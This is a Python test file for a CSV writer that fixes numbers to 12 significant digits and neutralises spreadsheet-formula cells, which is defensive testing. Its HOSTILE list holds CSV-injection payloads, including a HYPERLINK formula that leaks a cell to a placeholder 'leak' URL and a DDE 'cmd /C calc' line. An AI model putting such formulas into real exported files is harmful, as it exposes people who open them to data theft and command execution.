"""Numbers are written in one canonical form (12 significant digits), so result files agree across
dependency versions whose numbers differ in the last bits (issue 15)."""

from __future__ import annotations

import math

import numpy as np
import pandas as pd
from hypothesis import given, strategies as st

from mkba.io.canonical import canonical, canonical_float, canonical_frame, csv_text

finite = st.floats(allow_nan=False, allow_infinity=False)


@given(finite)
def test_canonical_is_idempotent_and_within_half_a_unit_of_the_12th_digit(x):
    c = canonical_float(x)
    assert canonical_float(c) == c
    assert abs(c - x) <= 5e-12 * abs(x) + 1e-300
    assert repr(c) == repr(float(repr(c)))


def test_known_values():
    assert canonical_float(0.12307904317177992) == canonical_float(0.12307904317177995) == 0.123079043172
    assert math.copysign(1.0, canonical_float(-0.0)) == 1.0  # no "-0.0" in any file
    assert canonical_float(0.1 + 0.2) == 0.3
    assert canonical_float(1234567.0) == 1234567.0  # money in whole euros is kept exactly
    assert canonical(float("nan")) is None and canonical([np.float64(1 / 3)]) == [0.333333333333]
    assert canonical({1: (np.int64(2), np.bool_(True))}) == {"1": [2, True]}


def test_a_frame_whose_every_float_moved_one_ulp_is_written_the_same():
    rng = np.random.default_rng(5)
    x = rng.lognormal(0, 6, (50, 4)) * rng.choice([-1, 1], (50, 4))
    frame = pd.DataFrame(x, columns=list("abcd"), index=pd.Index([f"M{i}" for i in range(50)], name="measure"))
    frame["mixed"] = [1 / 3 if i % 2 else "text" for i in range(50)]
    frame["n"] = np.arange(50)
    moved = frame.copy()
    moved[list("abcd")] = np.nextafter(x, np.where(rng.random(x.shape) < 0.5, np.inf, -np.inf))
    moved["mixed"] = [float(np.nextafter(1 / 3, 1)) if i % 2 else "text" for i in range(50)]
    assert not np.array_equal(moved[list("abcd")].to_numpy(), x)
    assert csv_text(moved) == csv_text(frame)
    assert frame.to_csv() != moved.to_csv()  # pandas alone would write the last digit
    assert ",0.333333333333," in csv_text(frame)


HOSTILE = ['=HYPERLINK("https://example.org/leak?"&A1,"x")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
           "\tTAB", "\rCR", "=2+3"]


def test_csv_text_cells_that_start_like_a_formula_are_inert():
    """OWASP's CSV-injection advice: a text cell starting with = + - @ tab or CR gets a leading
    apostrophe, in values, in the index and in the header; numbers (and text that is a plain
    number) stay as they are."""
    import csv
    import io

    frame = pd.DataFrame({"name": HOSTILE, "value": np.arange(len(HOSTILE)) - 3.5,
                          "note": ["-5", "+1.5", "ok", None, "a=b", "", "x"]},
                         index=pd.Index([f"M{i}" if i else "=1+1" for i in range(len(HOSTILE))], name="measure"))
    frame = frame.rename(columns={"note": "@note"})
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows[0] == ["measure", "name", "value", "'@note"]
    assert [r[1] for r in rows[1:]] == ["'" + h.replace("\r", "\n") for h in HOSTILE]  # a CR would end the row
    assert rows[1][0] == "'=1+1" and rows[2][0] == "M1"
    assert [r[2] for r in rows[1:]] == ["-3.5", "-2.5", "-1.5", "-0.5", "0.5", "1.5", "2.5"]  # numbers stay numbers
    assert [r[3] for r in rows[1:]] == ["-5", "+1.5", "ok", "", "a=b", "", "x"]


@given(st.text())
def test_inert_text_never_starts_like_a_formula_unless_a_number(text):
    from mkba.io.canonical import FORMULA_STARTS, inert_text

    out = inert_text(text)
    assert out == text or out == "'" + text
    if out.startswith(FORMULA_STARTS):
        assert math.isfinite(float(out))


def test_a_float_index_is_canonical_and_every_level_of_a_multiindex_inert():
    """frontier.csv is indexed by budget (floats); ranking.csv by (party, measure)."""
    import csv
    import io

    budgets = pd.DataFrame({"value": [1.0, 2.0]}, index=pd.Index([0.1 + 0.2, 1e6 / 3], name="budget"))
    moved = budgets.set_axis(pd.Index(np.nextafter(budgets.index.to_numpy(), np.inf), name="budget"))
    assert csv_text(moved) == csv_text(budgets) == "budget,value\n0.3,1.0\n333333.333333,2.0\n"
    assert canonical_frame(moved).index.tolist() == [0.3, 333333.333333]
    ranks = pd.DataFrame({"rank": [1, 2]}, index=pd.MultiIndex.from_tuples([("=x", "M1"), ("y", "@M2")],
                                                                            names=["party", "measure"]))
    rows = list(csv.reader(io.StringIO(csv_text(ranks))))
    assert rows[1:] == [["'=x", "M1", "1"], ["y", "'@M2", "2"]]

